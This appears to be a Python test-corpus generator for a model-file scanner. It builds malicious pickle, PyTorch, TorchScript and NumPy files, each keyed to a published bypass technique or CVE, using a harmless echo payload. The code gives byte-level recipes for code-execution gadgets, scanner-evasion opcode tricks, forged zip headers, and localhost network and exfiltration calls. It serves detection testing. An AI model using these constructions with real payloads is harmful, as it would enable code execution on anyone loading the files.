"""Malicious corpus: one generator per published (or garrison-found) technique.

Every payload is harmless (`echo garrison-test`) and every file is only ever written, never
loaded. Pickles are assembled opcode by opcode (see payloads.py) so no gadget module is
imported; containers are built with zipfile/tarfile/struct, and where a technique needs a
real base file (a torch checkpoint, a .keras archive) the base is made by the real library.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickletools
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.corpus import sources as src
from tests.corpus.payloads import (
    COMMAND,
    PY_PAYLOAD,
    Call,
    Global,
    Value,
    assemble,
    emit,
    inject_after_proto,
    os_system,
)
from tests.corpus.registry import Registry

REGISTRY = Registry()
register = REGISTRY.register

# ---------------------------------------------------------------------------------------------
# Pickle: one dangerous call each. (id, callable, args, protocol, source, what it does)
# ---------------------------------------------------------------------------------------------

_SIMPLE: tuple[tuple[str, Global, tuple[Value, ...], int, str, str], ...] = (
    ("pkl-os-system-p0", Global("os", "system"), (COMMAND,), 0, src.SOUR_PICKLES,
     "os.system through GLOBAL at protocol 0"),
    ("pkl-posix-system-p2", Global("posix", "system"), (COMMAND,), 2, src.SOUR_PICKLES,
     "posix.system (how os.system pickles on Linux) at protocol 2"),
    ("pkl-nt-system-p3", Global("nt", "system"), (COMMAND,), 3, src.MODELSCAN_SETTINGS,
     "nt.system (os.system on Windows) at protocol 3"),
    ("pkl-builtins-exec-p4", Global("builtins", "exec"), (PY_PAYLOAD,), 4, src.PICKLESCAN_TESTS,
     "builtins.exec of Python source through STACK_GLOBAL at protocol 4"),
    ("pkl-py2-builtin-eval-p1", Global("__builtin__", "eval"), (PY_PAYLOAD,), 1,
     src.PICKLESCAN_TESTS, "Python 2 name __builtin__.eval, mapped to builtins by fix_imports"),
    ("pkl-subprocess-popen-p5", Global("subprocess", "Popen"), (["sh", "-c", COMMAND],), 5,
     src.PICKLESCAN_TESTS, "subprocess.Popen at protocol 5"),
    ("pkl-runpy-run-code", Global("runpy", "_run_code"), (PY_PAYLOAD, {}), 4,
     src.PICKLESCAN_TESTS, "runpy._run_code runs a source string"),
    ("pkl-pip-main", Global("pip", "main"), (["install", "garrison-test-nonexistent"],), 0,
     src.CVE_2025_1716, "pip.main installs an attacker package (CVE-2025-1716)"),
    ("pkl-ensurepip-run-pip", Global("ensurepip", "_run_pip"), (["install", "garrison-test"],), 4,
     src.gh("GHSA-xp4f-hrf8-rxw7"), "ensurepip._run_pip runs pip"),
    ("pkl-venv-create-with-pip", Global("venv", "create"),
     ("/tmp/garrison-test-venv", False, False, True, False, f"$({COMMAND})"), 4,
     src.PICKLESCAN_TESTS, "venv.create with a shell prompt string and with_pip"),
    ("pkl-timeit", Global("timeit", "timeit"), ("", PY_PAYLOAD), 4, src.gh("GHSA-v7x6-rv5q-mhwc"),
     "timeit.timeit executes its setup string"),
    ("pkl-numpy-runstring", Global("numpy.testing._private.utils", "runstring"),
     (PY_PAYLOAD, {}), 4, src.PICKLESCAN_TESTS, "numpy.testing runstring is exec in disguise"),
    ("pkl-numpy-f2py-getlincoef", Global("numpy.f2py.crackfortran", "getlincoef"),
     (PY_PAYLOAD, []), 4, src.gh("GHSA-r8g5-cgf2-4m4m"), "numpy.f2py getlincoef evals its input"),
    ("pkl-torch-bottleneck-cprofile", Global("torch.utils.bottleneck.__main__", "run_cprofile"),
     (PY_PAYLOAD, {}), 4, src.gh("GHSA-4r9r-ch6f-vxmx"), "torch bottleneck run_cprofile execs"),
    ("pkl-torch-bottleneck-autograd",
     Global("torch.utils.bottleneck.__main__", "run_autograd_prof"), (PY_PAYLOAD, {}), 4,
     src.gh("GHSA-4whj-rm5r-c2v8"), "torch bottleneck run_autograd_prof execs"),
    ("pkl-torch-collect-env-run", Global("torch.utils.collect_env", "run"), (COMMAND,), 4,
     src.gh("GHSA-f745-w6jp-hpxx"), "torch.utils.collect_env.run spawns a shell"),
    ("pkl-torch-jit-execwrapper", Global("torch.jit.unsupported_tensor_ops", "execWrapper"),
     (PY_PAYLOAD, {}, {}), 4, src.gh("GHSA-vr7h-p6mm-wpmh"), "torch.jit execWrapper is exec"),
    ("pkl-torch-inductor-compile-file", Global("torch._inductor.codecache", "compile_file"),
     ("", "", ["sh", "-c", COMMAND]), 4, src.PICKLESCAN_TESTS,
     "torch._inductor codecache.compile_file runs a command line"),
    ("pkl-torch-dynamo-guardbuilder", Global("torch._dynamo.guards", "GuardBuilder.get"),
     ({}, PY_PAYLOAD), 4, src.gh("GHSA-86cj-95qr-2p4f"), "torch._dynamo GuardBuilder.get evals"),
    ("pkl-torch-symbolic-shapes",
     Global("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
     ({}, PY_PAYLOAD, []), 4, src.gh("GHSA-f4x7-rfwp-v3xw"), "ShapeEnv guard expression eval"),
    ("pkl-torch-datapipes-decoder", Global("torch.utils.data.datapipes.utils.decoder",
                                           "basichandlers"),
     ("pickle", b"\x80\x04N."), 4, src.gh("GHSA-h3qp-7fh3-f8h4"),
     "torch datapipes decoder unpickles its bytes"),
    ("pkl-idlelib-pyshell-runcode", Global("idlelib.pyshell", "ModifiedInterpreter.runcode"),
     ({}, PY_PAYLOAD), 4, src.gh("GHSA-3gf5-cxq9-w223"), "idlelib ModifiedInterpreter.runcode"),
    ("pkl-idlelib-calltip-get-entity", Global("idlelib.calltip", "get_entity"), (PY_PAYLOAD,), 4,
     src.gh("GHSA-9xph-j2h6-g47v"), "idlelib.calltip.get_entity evals an expression"),
    ("pkl-idlelib-autocomplete", Global("idlelib.autocomplete", "AutoComplete.get_entity"),
     ({}, PY_PAYLOAD), 4, src.gh("GHSA-6w4w-5w54-rjvr"), "idlelib AutoComplete.get_entity evals"),
    ("pkl-lib2to3-make-label", Global("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
     (None, {}, '""+' + PY_PAYLOAD), 4, src.gh("GHSA-p9w7-82w4-7q8m"),
     "lib2to3 ParserGenerator.make_label evals a label"),
    ("pkl-lib2to3-grammar-loads", Global("lib2to3.pgen2.grammar", "Grammar.loads"),
     ({}, b"\x80\x04N."), 4, src.gh("GHSA-f54q-57x4-jg88"), "lib2to3 Grammar.loads unpickles"),
    ("pkl-code-interactive-runcode", Global("code", "InteractiveInterpreter.runcode"),
     ({}, PY_PAYLOAD), 4, src.gh("GHSA-cj3c-v495-4xqh"), "code.InteractiveInterpreter.runcode"),
    ("pkl-profile-run", Global("profile", "Profile.run"), ({}, PY_PAYLOAD), 4,
     src.gh("GHSA-x696-vm39-cp64"), "profile.Profile.run execs a statement"),
    ("pkl-cprofile-run", Global("cProfile", "run"), (PY_PAYLOAD,), 4,
     src.gh("GHSA-49gj-c84q-6qm9"), "cProfile.run execs a statement"),
    ("pkl-trace-runctx", Global("trace", "Trace.runctx"), ({}, PY_PAYLOAD, {}, {}), 4,
     src.gh("GHSA-g344-hcph-8vgg"), "trace.Trace.runctx execs a statement"),
    ("pkl-bdb-run", Global("bdb", "Bdb.run"), ({}, PY_PAYLOAD), 2, src.PICKLESCAN_TESTS,
     "bdb.Bdb.run execs a statement under the debugger"),
    ("pkl-pdb-run", Global("pdb", "run"), (PY_PAYLOAD,), 4, src.FICKLING_PR_210,
     "pdb.run execs a statement"),
    ("pkl-doctest-debug-script", Global("doctest", "debug_script"), (PY_PAYLOAD, True), 4,
     src.gh("GHSA-fqq6-7vqf-w3fg"), "doctest.debug_script execs a script"),
    ("pkl-pydoc-pipepager", Global("pydoc", "pipepager"), ("", COMMAND), 4, src.PICKLESCAN_TESTS,
     "pydoc.pipepager runs a shell command as the pager"),
    ("pkl-pty-spawn", Global("pty", "spawn"), (["sh", "-c", COMMAND],), 0, src.FICKLING_PR_108,
     "pty.spawn through INST-free protocol 0 GLOBAL"),
    ("pkl-multiprocessing-spawnv", Global("multiprocessing.util", "spawnv_passfds"),
     (b"/bin/sh", ("/bin/sh", "-c", COMMAND), ()), 4, src.MODELSCAN_338,
     "multiprocessing.util.spawnv_passfds spawns a process"),
    ("pkl-asyncio-subprocess-transport",
     Global("asyncio.unix_events", "_UnixSubprocessTransport._start"),
     ({}, COMMAND, True, None, None, None, 0), 4, src.gh("GHSA-q77w-mwjj-7mqx"),
     "asyncio subprocess transport in a submodule (CVE-2025-10157)"),
    ("pkl-ctypes-cdll", Global("ctypes", "CDLL"), (None,), 4, src.gh("GHSA-4675-36f9-wf6r"),
     "ctypes.CDLL loads native code"),
    ("pkl-io-fileio-write", Global("_io", "FileIO"), ("/tmp/garrison-test.txt", "w"), 4,
     src.PICKLESCAN_TESTS, "_io.FileIO opens a file for writing (io vs _io name)"),
    ("pkl-distutils-write-file", Global("distutils.file_util", "write_file"),
     ("/tmp/garrison-test.txt", ["garrison-test"]), 4, src.gh("GHSA-m273-6v24-x4m4"),
     "distutils write_file writes an arbitrary file"),
    ("pkl-shutil-rmtree", Global("shutil", "rmtree"), ("/tmp/garrison-test-nonexistent",), 4,
     src.FICKLING_PR_210, "shutil.rmtree deletes a directory tree"),
    ("pkl-socket-connect", Global("socket", "create_connection"), (("127.0.0.1", 9),), 4,
     src.PICKLESCAN_TESTS, "socket.create_connection opens a network connection"),
    ("pkl-urllib-urlopen", Global("urllib.request", "urlopen"),
     ("http://127.0.0.1:9/garrison-test",), 4, src.PICKLESCAN_TESTS, "urllib urlopen fetches"),
    ("pkl-requests-get", Global("requests", "get"), ("http://127.0.0.1:9/garrison-test",), 4,
     src.gh("GHSA-hgrh-qx5j-jfwx"), "requests.get exfiltrates over HTTP"),
    ("pkl-webbrowser-open", Global("webbrowser", "open"), ("http://127.0.0.1:9/garrison",), 4,
     "garrison", "webbrowser.open spawns the browser process"),
    ("pkl-pandas-read-csv-url", Global("pandas.io.parsers.readers", "read_csv"),
     ("http://127.0.0.1:9/garrison-test.csv",), 4, src.MODELSCAN_338,
     "pandas read_csv of a URL (exfiltration through a data library)"),
)  # fmt: skip


def _simple_maker(func: Global, args: tuple[Value, ...], proto: int) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.write_bytes(assemble(Call(func, args), proto))

    return make


for _id, _func, _args, _proto, _source, _what in _SIMPLE:
    REGISTRY.add(_id, "pickle", f"{_id}.pkl", _what, _source, _simple_maker(_func, _args, _proto))


def _write(path: Path, value: Value, proto: int = 4) -> None:
    path.write_bytes(assemble(value, proto))


@register("pkl-inst-opcode", "pickle", "pkl-inst-opcode.pkl", src.PICKLESCAN_TESTS)
def _inst(path: Path) -> None:
    """INST opcode names the callable inline (protocol 0), no GLOBAL at all."""
    path.write_bytes(b"(V" + COMMAND.encode() + b"\nios\nsystem\n.")


@register("pkl-obj-opcode", "pickle", "pkl-obj-opcode.pkl")
def _obj(path: Path) -> None:
    """OBJ opcode calls the class found after MARK with the following args."""
    path.write_bytes(
        b"(cos\nsystem\nX" + struct.pack("<I", len(COMMAND)) + COMMAND.encode() + b"o."
    )


@register("pkl-newobj-popen", "pickle", "pkl-newobj-popen.pkl")
def _newobj(path: Path) -> None:
    """NEWOBJ builds subprocess.Popen (dangerous class reached without REDUCE)."""
    body = emit(Global("subprocess", "Popen"), 2) + emit((["sh", "-c", COMMAND],), 2) + b"\x81"
    path.write_bytes(b"\x80\x02" + body + b".")


@register("pkl-newobj-ex-popen", "pickle", "pkl-newobj-ex-popen.pkl")
def _newobj_ex(path: Path) -> None:
    """NEWOBJ_EX builds subprocess.Popen with keyword arguments (protocol 4)."""
    args = emit(Global("subprocess", "Popen"), 4) + emit((), 4) + emit({"args": COMMAND}, 4)
    path.write_bytes(b"\x80\x04" + args + b"\x92.")


@register("pkl-stack-global-memo", "pickle", "pkl-stack-global-memo.pkl", src.PICKLESCAN_22)
def _stack_global_memo(path: Path) -> None:
    """STACK_GLOBAL operands come from the memo after decoy strings (picklescan #22)."""
    ops = [
        b"Vos\n",
        b"p2\n",
        b"0",
        b"Vsystem\n",
        b"p3\n",
        b"0",
        b"Vtorch\n",
        b"p0\n",
        b"0",
        b"VLongStorage\n",
        b"p1\n",
        b"0",
        b"g2\n",
        b"g3\n",
        b"\x93",
        b"(V",
        COMMAND.encode(),
        b"\nt",
        b"R",
        b".",
    ]
    path.write_bytes(b"".join(ops))


@register(
    "pkl-stack-global-string-opcode",
    "pickle",
    "pkl-stack-global-string-opcode.pkl",
    src.gh("GHSA-9gvj-pp9x-gcfr"),
)
def _stack_global_string(path: Path) -> None:
    """STACK_GLOBAL with operands pushed by the quoted STRING opcode, no PROTO header."""
    path.write_bytes(b"S'os'\nS'system'\n\x93S'" + COMMAND.encode() + b"'\n\x85R.")


@register("pkl-build-setattr-memo", "pickle", "pkl-build-setattr-memo.pkl", src.MODELSCAN_85)
def _build_setattr(path: Path) -> None:
    """BUILD slotstate plants 'os'/'system' on numpy.prod, read back as dotted globals."""
    p = b"\x80\x05cnumpy\nprod\n"
    p += b"N(Va\nVos\nd\x86b"
    p += b"N(Vb\nVsystem\nd\x86b0"
    p += b"cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00"
    p += b"g0\ng1\n\x93V" + COMMAND.encode() + b"\n\x85R."
    path.write_bytes(p)


@register("pkl-numpy-builtins-shape", "pickle", "pkl-numpy-builtins-shape.pkl", src.MODELSCAN_330)
def _numpy_builtins(path: Path) -> None:
    """numpy.__builtins__ planted as numpy.size.shape, so numpy.size(..., 'eval') is eval."""
    sbu: Callable[[str], bytes] = lambda s: b"\x8c" + bytes([len(s)]) + s.encode()  # noqa: E731
    p = b"\x80\x04" + sbu("numpy") + sbu("size") + b"\x93\x94\x94"
    p += sbu("numpy") + sbu("__builtins__") + b"\x93\x94\x94"
    p += b"h\x01}}" + sbu("shape") + b"h\x03s\x86b"
    p += b"h\x01h\x01" + sbu("eval") + b"\x86R" + sbu(PY_PAYLOAD) + b"\x85R."
    path.write_bytes(p)


@register("pkl-memo-keyerror", "pickle", "pkl-memo-keyerror.pkl", src.PICKLESCAN_TESTS)
def _memo_keyerror(path: Path) -> None:
    """Payload first, then a GET of a missing memo key that crashes naive scanners."""
    p = b"\x80\x04cos\nsystem\nV" + COMMAND.encode() + b"\n\x85R0"
    p += b"\x8c\x02os\x94h\x03h\x00\x93K\x42."
    path.write_bytes(p)


@register("pkl-memo-type-confusion", "pickle", "pkl-memo-type-confusion.pkl", src.PICKLESCAN_TESTS)
def _memo_type(path: Path) -> None:
    """Payload first, then STACK_GLOBAL on an int from the memo (scanner type confusion)."""
    p = b"\x80\x04cos\nsystem\nV" + COMMAND.encode() + b"\n\x85R0"
    p += b"J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93K\x42."
    path.write_bytes(p)


@register("pkl-broken-after-payload", "pickle", "pkl-broken-after-payload.pkl", src.NULLIFAI)
def _broken(path: Path) -> None:
    """nullifAI: payload runs, then an invalid opcode breaks the stream (no STOP)."""
    path.write_bytes(b"\x80\x02" + emit(os_system(), 2) + b"0" + b"\xff\xfeGARRISON")


@register(
    "pkl-truncated-after-payload", "pickle", "pkl-truncated-after-payload.pkl", src.HIDE_AND_SEEK
)
def _truncated(path: Path) -> None:
    """Payload runs, then the stream just ends mid-structure (EOF instead of STOP)."""
    path.write_bytes(b"\x80\x02" + emit(os_system(), 2) + b"0}(X\x10\x00\x00\x00trunc")


@register("pkl-concatenated", "pickle", "pkl-concatenated.pkl", src.PICKLESCAN_TESTS)
def _concatenated(path: Path) -> None:
    """A benign pickle followed by a malicious one (scanners that stop at the first STOP)."""
    path.write_bytes(assemble(["a", "b", "c"], 2) + assemble(os_system(), 4))


@register("pkl-pop-discarded-call", "pickle", "pkl-pop-discarded-call.pkl", src.MODELAUDIT_HN)
def _pop_discarded(path: Path) -> None:
    """The payload's result is POPped, then a benign dict is returned (call vanishes in ASTs)."""
    path.write_bytes(inject_after_proto(assemble({"weights": [1, 2, 3]}, 4), os_system()))


@register(
    "pkl-sour-pickles-compile-eval", "pickle", "pkl-sour-pickles-compile-eval.pkl", src.SOUR_PICKLES
)
def _compile_eval(path: Path) -> None:
    """__builtin__.compile a code object, then __builtin__.eval it (Sour Pickles)."""
    code = Call(Global("__builtin__", "compile"), (PY_PAYLOAD, "<garrison>", "exec"))
    _write(path, Call(Global("__builtin__", "eval"), (code,)), 0)


@register(
    "pkl-getattr-import-chain",
    "pickle",
    "pkl-getattr-import-chain.pkl",
    src.gh("GHSA-h4rm-mm56-xf63", "trailofbits/fickling"),
)
def _getattr_chain(path: Path) -> None:
    """builtins.getattr(builtins.__import__('os'), 'system')(cmd)."""
    os_mod = Call(Global("builtins", "__import__"), ("os",))
    _write(path, Call(Call(Global("builtins", "getattr"), (os_mod, "system")), (COMMAND,)))


@register(
    "pkl-importlib-import-module", "pickle", "pkl-importlib-import-module.pkl", src.PICKLESCAN_66
)
def _importlib(path: Path) -> None:
    """importlib.import_module('os') then getattr for system: no os GLOBAL anywhere."""
    os_mod = Call(Global("importlib", "import_module"), ("os",))
    _write(path, Call(Call(Global("builtins", "getattr"), (os_mod, "system")), (COMMAND,)))


@register("pkl-importlib-joined-name", "pickle", "pkl-importlib-joined-name.pkl", src.MODELSCAN_331)
def _joined(path: Path) -> None:
    """The module name 'os' is built at load time with ''.join(['o', 's'])."""
    join = Call(Global("builtins", "getattr"), ("", "join"))
    name = Call(join, (["o", "s"],))
    os_mod = Call(Global("importlib", "import_module"), (name,))
    _write(path, Call(Call(Global("builtins", "getattr"), (os_mod, "system")), (COMMAND,)))


@register(
    "pkl-pkgutil-resolve-name",
    "pickle",
    "pkl-pkgutil-resolve-name.pkl",
    src.gh("GHSA-vvpj-8cmc-gx39"),
)
def _resolve_name(path: Path) -> None:
    """pkgutil.resolve_name('os:system') reaches any blocked global (universal bypass)."""
    _write(path, Call(Call(Global("pkgutil", "resolve_name"), ("os:system",)), (COMMAND,)))


@register("pkl-operator-attrgetter", "pickle", "pkl-operator-attrgetter.pkl", src.PICKLESCAN_TESTS)
def _attrgetter(path: Path) -> None:
    """operator.attrgetter('system')(__import__('os'))(cmd)."""
    getter = Call(Global("operator", "attrgetter"), ("system",))
    os_mod = Call(Global("builtins", "__import__"), ("os",))
    _write(path, Call(Call(getter, (os_mod,)), (COMMAND,)))


@register(
    "pkl-private-operator-methodcaller",
    "pickle",
    "pkl-private-operator-methodcaller.pkl",
    src.gh("GHSA-955r-x9j8-7rhh"),
)
def _methodcaller(path: Path) -> None:
    """_operator.methodcaller('system', cmd) applied to a module from pydoc.locate('os')."""
    caller = Call(Global("_operator", "methodcaller"), ("system", COMMAND))
    _write(path, Call(caller, (Call(Global("pydoc", "locate"), ("os",)),)))


@register("pkl-functools-partial", "pickle", "pkl-functools-partial.pkl", src.FICKLING_PR_210)
def _partial(path: Path) -> None:
    """functools.partial(os.system, cmd)() hides the call behind a wrapper."""
    part = Call(Global("functools", "partial"), (Global("os", "system"), COMMAND))
    _write(path, Call(part, ()))


@register(
    "pkl-partial-torch-load-kwargs",
    "pickle",
    "pkl-partial-torch-load-kwargs.pkl",
    src.PICKLESCAN_TESTS,
)
def _partial_torch_load(path: Path) -> None:
    """partial(torch.load) whose BUILD state adds weights_only=False, then called."""
    part = emit(Call(Global("functools", "partial"), (Global("torch", "load"),)), 4)
    state = emit((Global("torch", "load"), ("other_model.bin",), {"weights_only": False}, None), 4)
    path.write_bytes(b"\x80\x04" + part + state + b"b)R.")


@register("pkl-nested-pickle-loads", "pickle", "pkl-nested-pickle-loads.pkl", src.MODELSCAN_267)
def _nested_loads(path: Path) -> None:
    """pickle.loads of an inner malicious pickle passed as bytes."""
    _write(path, Call(Global("pickle", "loads"), (assemble(os_system(), 4),)), 4)


@register(
    "pkl-nested-cpickle-codecs", "pickle", "pkl-nested-cpickle-codecs.pkl", src.PICKLESCAN_TESTS
)
def _nested_codecs(path: Path) -> None:
    """_pickle.loads at protocol 2, inner bytes rebuilt with _codecs.encode(latin-1)."""
    _write(path, Call(Global("_pickle", "loads"), (assemble(os_system(), 2),)), 2)


@register("pkl-nested-numpy-load", "pickle", "pkl-nested-numpy-load.pkl")
def _nested_numpy(path: Path) -> None:
    """numpy.load(BytesIO(npy), None, allow_pickle=True) of an object .npy with a payload."""
    buf = Call(Global("io", "BytesIO"), (npy_bytes(assemble(os_system(), 3)),))
    _write(path, Call(Global("numpy", "load"), (buf, None, True)))


@register("pkl-nested-joblib-load", "pickle", "pkl-nested-joblib-load.pkl")
def _nested_joblib(path: Path) -> None:
    """joblib.load(BytesIO(inner malicious pickle))."""
    buf = Call(Global("io", "BytesIO"), (assemble(os_system(), 4),))
    _write(path, Call(Global("joblib", "load"), (buf,)))


@register("pkl-nested-torch-load", "pickle", "pkl-nested-torch-load.pkl")
def _nested_torch(path: Path) -> None:
    """torch.load(BytesIO(legacy pickle), weights_only=False) through a positional call."""
    buf = Call(Global("io", "BytesIO"), (assemble(os_system(), 2),))
    _write(path, Call(Global("torch", "load"), (buf, None, None)))


@register("pkl-marshal-function-type", "pickle", "pkl-marshal-function-type.pkl", src.HIDE_AND_SEEK)
def _marshal(path: Path) -> None:
    """types.FunctionType(marshal.loads(code), {})() runs marshalled bytecode."""
    code = marshal.dumps(compile(PY_PAYLOAD, "<garrison>", "exec"))
    func = Call(Global("types", "FunctionType"), (Call(Global("marshal", "loads"), (code,)), {}))
    _write(path, Call(func, ()))


@register(
    "pkl-subinterpreter-run-string",
    "pickle",
    "pkl-subinterpreter-run-string.pkl",
    src.gh("GHSA-6ggj-6f2q-f7mx", "trailofbits/fickling"),
)
def _subinterp(path: Path) -> None:
    """_xxsubinterpreters.run_string, result kept in the returned dict (no unused value)."""
    interp = Call(Global("_xxsubinterpreters", "create"), ())
    run = Call(Global("_xxsubinterpreters", "run_string"), (interp, PY_PAYLOAD))
    _write(path, {"state": run})


@register(
    "pkl-payload-in-setstate",
    "pickle",
    "pkl-payload-in-setstate.pkl",
    src.gh("GHSA-6ggj-6f2q-f7mx", "trailofbits/fickling"),
)
def _setstate(path: Path) -> None:
    """A benign-looking OrderedDict whose BUILD state carries the payload's result."""
    obj = emit(Call(Global("collections", "OrderedDict"), ()), 4)
    state = emit({"_garrison": os_system()}, 4)
    path.write_bytes(b"\x80\x04" + obj + state + b"b.")


@register("pkl-payload-ext-bin", "pickle", "pytorch_model.bin", src.JFROG_PICKLESCAN)
def _ext_bin(path: Path) -> None:
    """A raw pickle named pytorch_model.bin (torch extension, not a zip: CVE-2025-10155)."""
    _write(path, os_system(), 2)


# ---------------------------------------------------------------------------------------------
# PyTorch zip / legacy / TorchScript
# ---------------------------------------------------------------------------------------------


def _torch_zip(injected: bool = True) -> bytes:
    """A real torch.save checkpoint; data.pkl carries the payload when `injected`."""
    import torch

    torch.manual_seed(0)
    buf = io.BytesIO()
    torch.save({"weight": torch.randn(4, 4), "bias": torch.zeros(4)}, buf)
    if not injected:
        return buf.getvalue()
    return _replace_member(buf.getvalue(), "data.pkl", lambda b: inject_after_proto(b, os_system()))


def _replace_member(data: bytes, suffix: str, change: Callable[[bytes], bytes]) -> bytes:
    """Rewrite a zip, transforming the members whose name ends with `suffix`."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src_zip, zipfile.ZipFile(out, "w") as dst:
        for info in src_zip.infolist():
            body = src_zip.read(info)
            if info.filename.endswith(suffix):
                body = change(body)
            dst.writestr(info, body)
    return out.getvalue()


def _patch_headers(
    data: bytes,
    suffix: str,
    local: Callable[[bytearray, int], None],
    central: Callable[[bytearray, int], None],
) -> bytes:
    """Apply byte patches to the local and central headers of members named *suffix."""
    buf = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        targets = [i for i in zf.infolist() if i.filename.endswith(suffix)]
    for info in targets:
        local(buf, info.header_offset)
    pos = buf.find(b"PK\x01\x02")
    while pos != -1:
        name_len = struct.unpack_from("<H", buf, pos + 28)[0]
        name = bytes(buf[pos + 46 : pos + 46 + name_len]).decode()
        if name.endswith(suffix):
            central(buf, pos)
        pos = buf.find(b"PK\x01\x02", pos + 46)
    return bytes(buf)


@register("torch-zip-data-pkl-injected", "pytorch", "torch-injected.pt", src.FICKLING_TORCH)
def _torch_injected(path: Path) -> None:
    """Real torch.save checkpoint with a payload injected ahead of data.pkl's object."""
    path.write_bytes(_torch_zip())


@register("torch-zip-pickle-in-storage", "pytorch", "torch-pickle-in-storage.pt")
def _torch_storage(path: Path) -> None:
    """Clean data.pkl; a pickle payload hides in the tensor storage member data/1."""
    path.write_bytes(_replace_member(_torch_zip(False), "data/1", lambda _: assemble(os_system())))


@register(
    "torch-zip-local-name-mismatch",
    "pytorch",
    "torch-local-name-mismatch.pt",
    src.gh("GHSA-7q5r-7gvp-wc82"),
)
def _torch_name_mismatch(path: Path) -> None:
    """Local header names data.pkl differently from the central directory (CVE-2025-1944)."""

    def local(buf: bytearray, off: int) -> None:
        name_len = struct.unpack_from("<H", buf, off + 26)[0]
        start = off + 30 + name_len - len("data.pkl")
        buf[start : start + 8] = b"datap.kl"

    path.write_bytes(_patch_headers(_torch_zip(), "data.pkl", local, lambda b, o: None))


@register(
    "torch-zip-encryption-flag",
    "pytorch",
    "torch-encryption-flag.pt",
    src.gh("GHSA-w8jq-xcqf-f792"),
)
def _torch_flag(path: Path) -> None:
    """The encryption flag bit is set on data.pkl; torch ignores it (CVE-2025-1945)."""

    def local(buf: bytearray, off: int) -> None:
        buf[off + 6] |= 0x01

    def central(buf: bytearray, off: int) -> None:
        buf[off + 8] |= 0x01

    path.write_bytes(_patch_headers(_torch_zip(), "data.pkl", local, central))


@register("torch-zip-bad-crc", "pytorch", "torch-bad-crc.pt", src.JFROG_PICKLESCAN)
def _torch_crc(path: Path) -> None:
    """data.pkl's CRC is wrong in both headers; Python zipfile refuses, torch does not."""

    def local(buf: bytearray, off: int) -> None:
        buf[off + 14 : off + 18] = b"\xde\xad\xbe\xef"

    def central(buf: bytearray, off: int) -> None:
        buf[off + 16 : off + 20] = b"\xde\xad\xbe\xef"

    path.write_bytes(_patch_headers(_torch_zip(), "data.pkl", local, central))


@register(
    "torch-zip-nonstandard-member-ext",
    "pytorch",
    "torch-nonstandard-ext.pt",
    src.gh("GHSA-769v-p64c-89pr"),
)
def _torch_ext(path: Path) -> None:
    """The payload pickle is a member named data.txt (CVE-2025-1889)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("archive/data.txt", assemble(os_system(), 4))
        zf.writestr("archive/version", "3\n")
    path.write_bytes(out.getvalue())


def _legacy_torch() -> bytes:
    import torch

    torch.manual_seed(0)
    buf = io.BytesIO()
    torch.save({"weight": torch.randn(3, 3)}, buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def pickle_spans(data: bytes, limit: int) -> list[tuple[int, int]]:
    """(start, end) of the first `limit` consecutive pickles, found by disassembly only."""
    spans: list[tuple[int, int]] = []
    stream = io.BytesIO(data)
    while len(spans) < limit:
        start = stream.tell()
        end = start
        for op, _arg, pos in pickletools.genops(stream):
            if op.name == "STOP":
                end = (pos or 0) + 1
                break
        spans.append((start, end))
        stream.seek(end)
    return spans


@register(
    "torch-legacy-magic-pickle-injected", "pytorch", "torch-legacy-magic.pt", src.FICKLING_TORCH
)
def _legacy_magic(path: Path) -> None:
    """Legacy (non-zip) torch file: the payload rides in the magic-number pickle."""
    data = _legacy_torch()
    start, end = pickle_spans(data, 1)[0]
    path.write_bytes(inject_after_proto(data[start:end], os_system()) + data[end:])


@register(
    "torch-legacy-data-pickle-injected", "pytorch", "torch-legacy-data.pt", src.FICKLING_TORCH
)
def _legacy_data(path: Path) -> None:
    """Legacy torch file: the payload is injected into the fourth (object) pickle."""
    data = _legacy_torch()
    start, end = pickle_spans(data, 4)[3]
    path.write_bytes(data[:start] + inject_after_proto(data[start:end], os_system()) + data[end:])


def _torchscript() -> bytes:
    import torch

    torch.manual_seed(0)
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(3, 2)), buf)
    return buf.getvalue()


@register(
    "torchscript-python-source", "pytorch", "torchscript-python-source.pt", src.TORCH_CVE_2025_32434
)
def _ts_source(path: Path) -> None:
    """A TorchScript archive whose code/ member is Python that imports os and runs a shell."""
    evil = f"import os\nos.system({COMMAND!r})\n".encode()
    path.write_bytes(_replace_member(_torchscript(), ".py", lambda b: evil + b))


@register(
    "torchscript-data-pkl-injected",
    "pytorch",
    "torchscript-data-injected.pt",
    src.TORCH_CVE_2025_32434,
)
def _ts_data(path: Path) -> None:
    """A real TorchScript archive with a payload injected into its data.pkl."""
    path.write_bytes(
        _replace_member(_torchscript(), "/data.pkl", lambda b: inject_after_proto(b, os_system()))
    )


# ---------------------------------------------------------------------------------------------
# NumPy and joblib
# ---------------------------------------------------------------------------------------------


def npy_bytes(pickled: bytes, descr: str = "|O") -> bytes:
    """A version 1.0 .npy whose header declares an object array and whose body is `pickled`."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': (1,), }}"
    pad = 64 - (10 + len(header) + 1) % 64
    text = (header + " " * pad + "\n").encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + pickled


class _Reduce:
    """An object whose pickle calls `func(*args)`: for np.save / joblib.dump to serialise."""

    def __init__(self, func: Callable[..., Any], *args: Any) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.func, self.args


def _payload_object() -> _Reduce:
    return _Reduce(os.system, COMMAND)


@register("npy-object-array-payload", "numpy", "npy-object-payload.npy", src.PICKLESCAN_TESTS)
def _npy(path: Path) -> None:
    """np.save of an object array holding an object whose pickle calls os.system."""
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = _payload_object()
    np.save(path, arr, allow_pickle=True)


@register("npz-object-member-payload", "numpy", "npz-object-payload.npz", src.PICKLESCAN_TESTS)
